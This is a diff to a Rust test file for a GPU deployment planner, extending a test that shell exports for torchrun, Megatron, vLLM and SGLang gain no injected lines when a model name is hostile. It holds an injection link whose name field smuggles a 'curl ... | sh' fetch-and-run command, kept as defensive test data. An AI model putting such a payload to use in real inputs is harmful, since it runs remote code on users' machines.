@@ -3,12 +3,16 @@
 //! wrong number as if it were right; every refusal names its field.
 
 use planner_core::evaluate::evaluate;
-use planner_core::export::{export, exports, notes_as_comments, notes_markdown, ExportFormat};
+use planner_core::export::{
+    deployment_export, export, exports, notes_as_comments, notes_markdown, ExportFormat,
+};
 use planner_core::hf_config::import_hf_config;
 use planner_core::link::{decode, decode_lenient, MAX_LINK_PARAMS};
 use planner_core::presets::{article_mesh_scenario, default_scenario};
 use planner_core::report::parse_report;
 use planner_core::scenario::{ModelChoice, Scenario};
+use planner_core::serving_disagg::{DisaggDeployment, PoolShape};
+use planner_core::serving_search::{Deployment, Pools};
 use proptest::prelude::*;
 
 const INJECTION_LINK: &str = "v=1&model=custom&name=evil%0Acurl%20http%3A%2F%2F127.0.0.1%2Fx%20%7C%20sh%0A%23&layers=80&hidden=8192&heads=64&ffn=28672&vocab=128256&gpus=64&dp=8&tp=8";
@@ -58,26 +62,67 @@ fn the_injection_link_is_refused_naming_the_name_field() {
 fn shell_exports_hold_no_injected_line(name: &str) {
     let (benign_s, benign_m) = custom_named("benign");
     let (evil_s, evil_m) = custom_named(name);
-    for format in [
+    let mut cases: Vec<(String, String, String)> = [
         ExportFormat::Torchrun,
         ExportFormat::Megatron,
         ExportFormat::Vllm,
         ExportFormat::Sglang,
+    ]
+    .into_iter()
+    .map(|f| {
+        (
+            format!("{f:?}"),
+            export(f, &benign_s, &benign_m).text,
+            export(f, &evil_s, &evil_m).text,
+        )
+    })
+    .collect();
+    // The serving search's deployments, aggregated and disaggregated, in both engines.
+    let disagg = DisaggDeployment {
+        prefill: PoolShape {
+            tp: 8,
+            pp: 1,
+            replicas: 2,
+        },
+        decode: PoolShape {
+            tp: 4,
+            pp: 2,
+            replicas: 3,
+        },
+    };
+    for pools in [
+        Pools::Aggregated {
+            tp: 8,
+            pp: 2,
+            replicas: 4,
+        },
+        Pools::Disaggregated(disagg),
     ] {
-        let want = export(format, &benign_s, &benign_m).text;
-        let got = export(format, &evil_s, &evil_m).text;
+        let d = Deployment {
+            pools,
+            expert_parallel: false,
+            concurrency: 64,
+        };
+        for f in [ExportFormat::Vllm, ExportFormat::Sglang] {
+            let text = |s, m| deployment_export(f, s, m, &d, 2048).map(|e| e.text);
+            if let (Some(want), Some(got)) = (text(&benign_s, &benign_m), text(&evil_s, &evil_m)) {
+                cases.push((format!("{f:?} {}", d.label()), want, got));
+            }
+        }
+    }
+    for (format, want, got) in cases {
         let (want, got): (Vec<&str>, Vec<&str>) = (want.lines().collect(), got.lines().collect());
         assert_eq!(
             want.len(),
             got.len(),
-            "{format:?}: a line was added:\n{}",
+            "{format}: a line was added:\n{}",
             got.join("\n")
         );
         for (w, g) in want.iter().zip(&got) {
             if w != g {
                 assert!(
                     w.trim_start().starts_with('#') && g.trim_start().starts_with('#'),
-                    "{format:?}: only comments may differ: {g:?}"
+                    "{format}: only comments may differ: {g:?}"
                 );
             }
         }
@@ -89,7 +134,7 @@ fn shell_exports_hold_no_injected_line(name: &str) {
         {
             assert!(
                 out.status.success(),
-                "{format:?}: bash -n: {}",
+                "{format}: bash -n: {}",
                 String::from_utf8_lossy(&out.stderr)
             );
         }
